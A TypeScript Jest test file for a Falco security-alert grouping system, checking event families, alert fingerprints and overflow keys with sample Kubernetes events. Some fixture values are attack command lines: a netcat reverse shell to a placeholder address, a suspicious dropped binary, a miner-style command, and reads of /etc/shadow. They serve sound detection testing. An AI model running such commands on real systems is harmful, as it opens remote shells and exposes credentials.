import { hash } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import type { ClusterRef, FalcoEvent, FieldValue } from '../../../functions/core/event/alert.ts';
import { familyOf } from '../../../functions/core/event/family.ts';
import { fingerprintOf, isFingerprintField, overflowOf } from '../../../functions/core/event/fingerprint.ts';
import { readEvent } from '../../../functions/ingest/event.ts';
import { letters } from '../../bench/mix.ts';
import { fixtureText } from '../../fixtures/load.ts';

const cluster: ClusterRef = { project: 'acme-prod', location: 'europe-west1', name: 'payments-eu1' };

function load(name: string): FalcoEvent {
  const result = readEvent(fixtureText(name));
  if (!result.ok) throw new Error(result.detail);
  return result.event;
}

function withFields(event: FalcoEvent, fields: Record<string, FieldValue>): FalcoEvent {
  return { ...event, fields: { ...event.fields, ...fields } };
}

const print = (event: FalcoEvent, by?: string[]): string => fingerprintOf({ event, cluster }, by).fingerprint;

describe('familyOf', () => {
  test.each([
    ['shell-terminal', 'shell'],
    ['exec-dropped-binary', 'exec'],
    ['exec-setns', 'exec'],
    ['file-shadow', 'file'],
    ['file-custom-rule', 'file'],
    ['api-server-curl', 'api-server'],
    ['network-redirect', 'network'],
    ['host-netcat', 'host'],
    ['host-unresolved', 'file'],
    ['audit-exec', 'audit'],
    ['internal-drop', 'other'],
    ['plugin-okta', 'other'],
  ])('%s: %s', (name, family) => {
    expect(familyOf(load(name))).toBe(family);
  });

  test.each<[string, Record<string, FieldValue>, string]>([
    ['execve', { 'evt.type': 'execveat' }, 'exec'],
    ['connect', { 'evt.type': 'connect' }, 'network'],
    ['a protocol', { 'evt.type': 'dup3', 'fd.l4proto': 'tcp' }, 'network'],
    ['a protocol that is missing', { 'evt.type': 'openat2', 'fd.l4proto': '<NA>' }, 'file'],
    ['rename', { 'evt.type': 'renameat2' }, 'file'],
    ['a file by its descriptor', { 'evt.type': 'read', 'fd.type': 'file' }, 'file'],
    ['some call of a process', { 'evt.type': 'keyctl', 'proc.name': 'x' }, 'exec'],
    ['nothing to go by', {}, 'other'],
    ['a rule of the host', { 'container.id': 'host', 'evt.type': 'openat' }, 'host'],
  ])('a rule of our own: %s', (_name, fields, family) => {
    expect(familyOf({ ...load('shell-terminal'), rule: 'Our own rule', fields })).toBe(family);
  });
});

describe('fingerprintOf', () => {
  test.each<[string, string, Record<string, FieldValue>]>([
    [
      'shell: another terminal and command',
      'shell-terminal',
      { 'proc.tty': 1, 'proc.cmdline': 'bash -l', 'proc.pname': 'x' },
    ],
    [
      'exec: another replica',
      'exec-dropped-binary',
      { 'k8s.pod.name': 'ledger-api-66b6c48dd5-bhbt4', 'container.id': 'abcdef012345' },
    ],
    ['exec: another tag', 'exec-dropped-binary', { 'container.image.tag': 'v42' }],
    ['exec: another pid in the arguments', 'exec-ptrace', { 'proc.cmdline': 'gdb -p 51' }],
    ['exec: another process', 'exec-dropped-binary', { 'proc.pid': 4_711, 'proc.ppid': 1 }],
    [
      'exec: another random name',
      'exec-dropped-binary-random',
      { 'proc.exepath': '/tmp/f1b2c3d4e5f7', 'proc.cmdline': '/tmp/f1b2c3d4e5f7 -o pool.example:3333' },
    ],
    ['file: other arguments', 'file-shadow', { 'proc.cmdline': 'cat -A /etc/shadow' }],
    ['file: another process of /proc', 'file-proc-environ', { 'fd.name': '/proc/12/environ' }],
    ['network: another client port and address', 'network-redirect', { 'fd.name': '10.4.9.9:60000->203.0.113.9:4444' }],
    ['network: other arguments', 'network-redirect', { 'proc.cmdline': 'python3 x.py' }],
    ['API server: another address of it', 'api-server-curl', { 'fd.name': '10.4.1.7:1->10.0.0.2:443' }],
    ['host: other arguments', 'host-netcat', { 'proc.cmdline': 'socat x' }],
    ['audit: another address', 'audit-exec', { 'ka.sourceips': '203.0.113.8', 'ka.auditid': 'x' }],
    ['audit: another replica', 'audit-exec', { 'ka.target.name': 'ledger-api-7c9d5b8f6d-q9w4z' }],
    ['other: another time and identifier', 'plugin-okta', { 'okta.published': 'x', 'okta.evt.uuid': 'y' }],
  ])('the same again: %s', (_name, name, fields) => {
    const event = load(name);
    const again = {
      ...withFields(event, { ...fields, 'evt.time': 1n }),
      uuid: 'x',
      timeNs: 1n,
      output: 'x',
      time: 'x',
      tags: [],
    };
    expect(print(again)).toBe(print(event));
  });

  test.each<[string, string, Record<string, FieldValue>]>([
    ['shell: another pod', 'shell-terminal', { 'k8s.pod.name': 'ledger-api-7c9d5b8f6d-q9w4z' }],
    ['shell: another user', 'shell-terminal', { 'user.name': 'app' }],
    ['exec: other arguments', 'exec-dropped-binary', { 'proc.cmdline': '/tmp/.x/kworker --steal' }],
    ['exec: another parent', 'exec-dropped-binary', { 'proc.pname': 'java' }],
    ['exec: another workload', 'exec-dropped-binary', { 'k8s.pod.name': 'web-7c9d5b8f6d-x2x8k' }],
    ['exec: another container', 'exec-dropped-binary', { 'container.name': 'sidecar' }],
    ['exec: another address', 'exec-netcat', { 'proc.cmdline': 'nc -e /bin/sh 203.0.113.10 4444' }],
    ['file: another file', 'file-shadow', { 'fd.name': '/etc/sudoers' }],
    ['network: another server', 'network-redirect', { 'fd.name': '10.4.1.7:45874->203.0.113.10:4444' }],
    ['network: another server port', 'network-redirect', { 'fd.name': '10.4.1.7:45874->203.0.113.9:4445' }],
    ['API server: another program', 'api-server-curl', { 'proc.exepath': '/usr/bin/wget' }],
    ['API server: another image', 'api-server-curl', { 'container.image.repository': 'x' }],
    ['host: another parent', 'host-netcat', { 'proc.pname': 'x' }],
    ['host: another login', 'host-netcat', { 'user.loginuid': 1001 }],
    ['audit: another user', 'audit-exec', { 'ka.user.name': 'eve@acme.example' }],
    ['audit: another secret', 'audit-secret-get', { 'ka.target.name': 'db-1' }],
    ['audit: another verb', 'audit-secret-get', { 'ka.verb': 'list' }],
    ['other: another user', 'plugin-okta', { 'okta.actor.name': 'eve@acme.example' }],
    ['internal: another count', 'internal-drop', { n_drops: '1204' }],
  ])('something else: %s', (_name, name, fields) => {
    const event = load(name);
    expect(print(withFields(event, fields))).not.toBe(print(event));
  });

  test('rule, project, location and cluster always count, and so does the node of a host event', () => {
    const event = load('host-netcat');
    const all = [
      fingerprintOf({ event, cluster }),
      fingerprintOf({ event: { ...event, rule: 'x' }, cluster }),
      fingerprintOf({ event: { ...event, hostname: 'x' }, cluster }),
      fingerprintOf({ event, cluster: { ...cluster, project: 'x' } }),
      fingerprintOf({ event, cluster: { ...cluster, location: 'x' } }),
      fingerprintOf({ event, cluster: { ...cluster, name: 'x' } }),
      fingerprintOf({ event, cluster: undefined }),
    ];
    expect(new Set(all.map(({ fingerprint }) => fingerprint)).size).toBe(all.length);
  });

  test('by replaces the fields of the family', () => {
    const event = load('api-server-curl');
    const by = ['namespace', 'workload', 'proc.name'];
    expect(fingerprintOf({ event, cluster }, by)).toEqual({
      family: 'api-server',
      fields: {
        project: 'acme-prod',
        location: 'europe-west1',
        cluster: 'payments-eu1',
        rule: 'Contact K8S API Server From Container',
        namespace: 'payments',
        workload: 'ledger-api',
        'proc.name': 'curl',
      },
      fingerprint: expect.stringMatching(/^[0-9a-f]{32}$/),
    });
    expect(print(withFields(event, { 'proc.exepath': 'x' }), by)).toBe(print(event, by));
    expect(print(withFields(event, { 'proc.name': 'x' }), by)).not.toBe(print(event, by));
  });

  test('values can not be moved from one field to the next', () => {
    const event = load('exec-netcat');
    const one = withFields(event, { 'container.name': 'a","b', 'container.image.repository': '' });
    const other = withFields(event, { 'container.name': 'a', 'container.image.repository': 'b' });
    expect(print(one)).not.toBe(print(other));
  });

  test('what is remembered is the hash of its own fields, however they are made to read alike', () => {
    const event = load('plugin-okta');
    const by = ['a.b', 'c.d'];
    // Each of these spells the beginning of another one's next field.
    const values = ['', 'x', 'x3 1 c.d', '1 x', 'a.b1 xc.d', '3 0 c.d', 'x'.repeat(2_000), '"],["c.d","'];
    const seen = new Map<string, string>();
    for (let round = 0; round < 2; round += 1) {
      for (const one of values) {
        for (const other of values) {
          const { fields, fingerprint } = fingerprintOf(
            { event: withFields(event, { 'a.b': one, 'c.d': other }), cluster },
            by,
          );
          const text = JSON.stringify(Object.entries(fields));
          expect(fingerprint).toBe(hash('sha256', text, 'hex').slice(0, 32));
          seen.set(text, fingerprint);
        }
      }
    }
    expect(new Set(seen.values()).size).toBe(seen.size);
  });

  test('more things than are remembered keep their fingerprints', () => {
    const event = load('plugin-okta');
    const all = (): string[] =>
      Array.from({ length: 2_500 }, (_, index) => {
        const other = withFields(event, { 'a.b': `thing ${letters(index)}` });
        return fingerprintOf({ event: other, cluster }, ['a.b']).fingerprint;
      });
    const first = all();
    expect(new Set(first).size).toBe(first.length);
    expect(all()).toEqual(first);
  });
});

describe('overflowOf', () => {
  const overflow = (event: FalcoEvent) => overflowOf({ event, cluster });

  test('one flood for a rule in a workload, whatever is random in it', () => {
    const event = load('exec-dropped-binary');
    const random = withFields(event, {
      'proc.cmdline': 'x',
      'proc.exepath': 'y',
      'k8s.pod.name': 'ledger-api-66b6c48dd5-bhbt4',
    });
    expect(overflow(random)).toEqual(overflow(event));
    expect(overflow(event)).toMatchObject({ limit: 50, windowMs: 600_000 });
    expect(overflow(event).fingerprint).not.toBe(overflow(event).key);
    expect(overflow({ ...event, rule: 'x' }).key).not.toBe(overflow(event).key);
    const said = JSON.stringify(
      Object.entries({
        project: cluster.project,
        location: cluster.location,
        cluster: cluster.name,
        rule: event.rule,
        namespace: event.fields['k8s.ns.name'],
        workload: 'ledger-api',
      }),
    );
    const withMark = `${said.slice(0, -1)},["overflow","true"]]`;
    const hashes = [said, withMark].map((text) => hash('sha256', text, 'hex').slice(0, 32));
    expect([overflow(event).key, overflow(event).fingerprint]).toEqual(hashes);
  });

  test('of a node where there is no workload', () => {
    const event = load('host-netcat');
    expect(overflow({ ...event, hostname: 'x' }).key).not.toBe(overflow(event).key);
  });
});

test.each([
  ['workload', true],
  ['proc.name', true],
  ['worklod', false],
  ['constructor', false],
])('isFingerprintField %s: %s', (name, expected) => {
  expect(isFingerprintField(name)).toBe(expected);
});
